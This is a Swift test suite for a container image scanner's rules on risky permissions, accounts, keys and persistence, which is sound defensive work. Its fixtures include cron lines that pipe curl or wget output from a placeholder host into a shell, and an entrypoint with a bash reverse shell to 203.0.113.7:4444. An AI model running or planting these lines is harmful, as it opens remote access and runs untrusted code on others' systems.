// Copyright (c) the Bulwark authors. SPDX-License-Identifier: Apache-2.0
import Findings
import Testing

@testable import ImageScanning

@Suite struct ImageBehaviourTests {
    private static func ids(_ file: ImageFile) -> [String] {
        var results: [ImageCheckResult] = []
        ImageBehaviour.judge(file, into: &results)
        return results.map(\.check.id)
    }

    static let files: [(path: String, mode: UInt32, isPackaged: Bool, ids: [String])] = [
        ("usr/bin/sudo", 0o4755, false, []), ("usr/bin/sudo", 0o4755, true, []),
        ("usr/lib/openssh/ssh-keysign", 0o4755, false, []), ("usr/local/bin/helper", 0o4755, false, ["BW-IMG-001"]),
        ("usr/bin/helper", 0o4755, true, []), ("usr/bin/helper", 0o2755, false, ["BW-IMG-001"]),
        ("usr/bin/helper", 0o2644, false, []), ("tmp/helper", 0o4755, false, ["BW-IMG-002", "BW-IMG-016"]),
        ("var/www/helper", 0o4755, false, ["BW-IMG-002"]), ("usr/bin/.helper", 0o4755, false, ["BW-IMG-002"]),
        ("usr/bin/bash", 0o4755, true, ["BW-IMG-003"]), ("usr/bin/python3.11", 0o4755, false, ["BW-IMG-003"]),
        ("usr/bin/find", 0o6755, false, ["BW-IMG-003"]), ("usr/local/bin/run", 0o777, false, ["BW-IMG-005"]),
        ("entrypoint.sh", 0o666, false, ["BW-IMG-005"]), ("app/data.txt", 0o666, false, []),
        ("usr/share/x/data.txt", 0o666, false, []), ("dev/shm/x", 0o755, false, ["BW-IMG-016"]),
        ("usr/bin/normal", 0o755, false, []), ("var/... /x", 0o644, false, ["BW-IMG-019"]),
        ("usr/lib/..x", 0o644, false, []), ("usr/lib/a\u{1}b", 0o644, false, ["BW-IMG-019"]),
    ]

    @Test(arguments: files.indices) func rightsAndNames(_ index: Int) {
        let (path, mode, isPackaged, ids) = Self.files[index]
        #expect(Self.ids(ImageFile(path: path, kind: .file, mode: mode, isPackaged: isPackaged)) == ids, "\(path)")
    }

    @Test(
        arguments: [
            ("dev/null", 1, 3, false), ("dev/tty", 5, 0, false), ("dev/sda", 8, 0, true), ("dev/mem", 1, 1, true),
            ("home/x/null", 1, 3, true), ("usr/lib/gone", 0, 0, false),
        ] as [(String, UInt64, UInt64, Bool)]) func devices(
            _ path: String, _ major: UInt64, _ minor: UInt64, _ isFound: Bool
        )
    {
        let file = ImageFile(path: path, kind: .device, mode: 0o666, major: major, minor: minor)
        #expect(Self.ids(file) == (isFound ? ["BW-IMG-004"] : []))
    }

    @Test(
        arguments: [
            ("usr/lib", 0o777, true), ("tmp", 0o1777, false), ("usr/lib", 0o755, false), ("app", 0o777, false),
            ("etc", 0o1777, false),
        ] as [(String, UInt32, Bool)]) func folders(_ path: String, _ mode: UInt32, _ isFound: Bool)
    {
        #expect(Self.ids(ImageFile(path: path, kind: .folder, mode: mode)) == (isFound ? ["BW-IMG-006"] : []))
    }

    @Test func capabilitiesAreRead() {
        func ids(_ bytes: [UInt8]) -> [String] {
            Self.ids(ImageFile(path: "usr/bin/x", kind: .file, mode: 0o755, capabilities: bytes))
        }
        // Revision 2: cap_net_raw (13), as ping has it; cap_sys_admin (21); cap_bpf (39) in the second pair.
        #expect(ids([1, 0, 0, 2, 0, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]) == [])
        #expect(ids([1, 0, 0, 2, 0, 0, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]) == ["BW-IMG-007"])
        #expect(
            FileCapabilities.dangerousNames([1, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0x80, 0, 0, 0, 0, 0, 0, 0]) == [
                "cap_bpf"
            ])
        #expect(ids([1, 2, 3]) == ["BW-IMG-021"])
    }

    static let texts: [(path: String, text: String, ids: [String])] = [
        ("etc/passwd", "root:x:0:0::/root:/bin/sh\napp:x:1000:1000::/:/bin/sh\n", []),
        (
            "etc/passwd", "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\nfree::5:5::/:/bin/sh\n",
            ["BW-IMG-014", "BW-IMG-013"]
        ),
        ("etc/shadow", "root:*:19000::::::\napp::19000::::::\n", ["BW-IMG-013"]),
        ("etc/shadow", "root:!:1::::::\n", []),
        ("etc/sudoers.d/app", "# NOPASSWD: ALL\napp ALL=(ALL) NOPASSWD: ALL\n", ["BW-IMG-015"]),
        ("etc/sudoers", "%sudo ALL=(ALL:ALL) ALL\n", []), ("etc/ld.so.preload", "/usr/lib/x.so\n", ["BW-IMG-010"]),
        ("etc/ld.so.preload", "\n# none\n", []), ("root/.ssh/authorized_keys", "ssh-ed25519 AAAA x\n", ["BW-IMG-009"]),
        ("root/.ssh/authorized_keys", "# none\n", []), ("root/.ssh/id_rsa", "x", ["BW-IMG-017"]),
        ("etc/ssh/ssh_host_rsa_key", "x", ["BW-IMG-012"]), ("etc/ssh/ssh_host_rsa_key.pub", "x", []),
        ("root/.bash_history", "ls\n", ["BW-IMG-018"]), ("app/.git/HEAD", "ref: refs/heads/main\n", ["BW-IMG-020"]),
        ("etc/cron.d/x", "*/5 * * * * root curl -s http://x.test/a | sh\n", ["BW-IMG-011"]),
        ("etc/cron.d/x", "# curl -s http://x.test/a | sh\n5 * * * * root logrotate\n", []),
        ("var/spool/cron/crontabs/root", "* * * * * wget -qO- http://x.test/a | bash\n", ["BW-IMG-011"]),
        ("entrypoint.sh", "#!/bin/sh\nbash -i >& /dev" + "/tcp/203.0.113.7/4444 0>&1\n", ["BW-IMG-008"]),
        ("docker-entrypoint.sh", "#!/bin/sh\nexec \"$@\"\n", []), ("app/page.txt", "curl http://x | sh", []),
        ("etc/profile.d/a.sh", "curl -o /tmp/a http://x.test/a; chmod +x /tmp/a\n", ["BW-IMG-011"]),
    ]

    @Test(arguments: texts.indices) func textsAreJudged(_ index: Int) {
        let (path, text, ids) = Self.texts[index]
        let size = Int64(text.utf8.count)
        let file = ImageFile(
            path: path, kind: .file, mode: 0o644, size: size,
            contents: ImageBehaviour.wants(path: path, size: size) ? Array(text.utf8) : nil)
        #expect(Self.ids(file) == ids, "\(path)")
    }

    @Test(arguments: [
        "root/.ssh/authorized_keys2", "home/a/.zsh_history", "home/a/.bashrc", "home/a/.profile", "home/a/.bash_login",
        "home/a/.xinitrc", "app/entrypoint.sh", "usr/local/bin/docker-entrypoint", "root/.ssh/id_ed25519",
        "root/.ssh/id_dsa",
        "a/.git/HEAD", "a/b.p12", "a/b.pfx", "a/b.jks", "a/b.keystore", "a/b.kdbx", "a/b.ppk", "a/b.bks", "run.sh",
        "docker-entrypoint.d/10-x", "var/spool/cron/root", "etc/init.d/x", "etc/rc.local",
        "etc/ssh/ssh_host_ed25519_key",
    ]) func filesWithARoleAreWanted(_ path: String) {
        #expect(ImageBehaviour.wants(path: path, size: 10))
    }

    @Test(arguments: [
        "usr/bin/ls", "a", "", "etc/hosts", "usr/share/x/keys", "var/spool/mail/root", "dockerfile", "x/y.sh",
    ])
    func othersAreNot(_ path: String) { #expect(!ImageBehaviour.wants(path: path, size: 10)) }

    @Test func whatIsTooLargeIsSaid() {
        let size = Int64(ImageBehaviour.contentsLimit) + 1
        #expect(!ImageBehaviour.wants(path: "etc/passwd", size: size))
        #expect(Self.ids(ImageFile(path: "etc/passwd", kind: .file, mode: 0o644, size: size)) == ["BW-IMG-021"])
    }
}
